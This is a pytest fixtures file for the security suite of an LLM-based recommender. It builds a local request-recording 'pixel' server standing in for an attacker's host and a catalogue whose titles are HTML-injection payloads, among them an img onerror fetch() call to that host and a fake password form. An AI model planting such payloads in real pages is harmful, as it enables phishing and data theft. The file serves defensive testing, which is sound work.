"""Fixtures of the security suite: a catalogue written by an attacker, a pixel server that records every request
it gets (none may ever arrive), and the suite's ``security`` marker."""

from __future__ import annotations

import dataclasses
import http.server
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line("markers", "security: the security suite (tests/security, issue 17)")


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    for item in items:
        if "tests/security/" in str(item.fspath).replace("\\", "/"):
            item.add_marker(pytest.mark.security)


@dataclass
class Pixel:
    """A local HTTP server standing in for an attacker's: every request it receives is recorded."""

    port: int
    hits: list[str] = field(default_factory=list)

    def url(self, name: str) -> str:
        return f"http://127.0.0.1:{self.port}/{name}"


@pytest.fixture(scope="module")
def pixel() -> Iterator[Pixel]:
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield Pixel(server.server_address[1], hits)
    finally:
        server.shutdown()
        server.server_close()


def evil_titles(pixel: Pixel) -> dict[str, str]:
    """Titles an attacker put in a catalogue: each would fetch the pixel or take over the page if drawn as HTML."""
    return {
        "7": f'Shrek <img src="{pixel.url("title.png")}">',
        "2": 'Monsters <div id="evil-overlay" style="position:fixed;inset:0;background:red;z-index:9999">owned</div>',
        "3": f'Nemo <form action="{pixel.url("form")}"><input id="evil-input" name="password"></form>',
        "1": f"Toy Story <img src=x onerror=\"fetch('{pixel.url('onerror')}')\">",
        "4": f'Alien <a id="evil-link" href="{pixel.url("link")}">click</a>',
    }


def evil_factory(pixel: Pixel, **sections: Any) -> Callable[[], Any]:
    """The fake pipeline of the UI tests (``fixtures_catalog.fake_recommender``) over its catalogue with
    ``evil_titles``."""

    def factory() -> Any:
        from fixtures_catalog import PopularityScorer, toy_dataset
        from llmrec.config import RecommenderConfig
        from llmrec.data.dataset import Dataset
        from llmrec.embedding import HashingEmbedder
        from llmrec.index.memory import MemoryIndex
        from llmrec.indexing import build_index, store_spec
        from llmrec.llm.base import FakeLLM
        from llmrec.pipeline import Recommender

        ds = toy_dataset()
        items = dict(ds.items)
        for item_id, title in evil_titles(pixel).items():
            items[item_id] = dataclasses.replace(items[item_id], title=title)
        evil = Dataset("evil", items, ds.interactions)
        emb = HashingEmbedder(dim=64)
        index = MemoryIndex(store_spec(emb))
        build_index(evil, emb, index)
        defaults = {"data": {"min_count": 3}, "ranker": {"kind": "llm"}, "explainer": {"kind": "template"},
                    "retrieval": {"candidates": 5}}  # fmt: skip
        config = RecommenderConfig().updated(**{**defaults, **sections})
        return Recommender(config, dataset=evil, embedder=emb, index=index, llm=FakeLLM(),
                           scorer_factory=lambda name, seq: PopularityScorer(seq))  # fmt: skip

    return factory
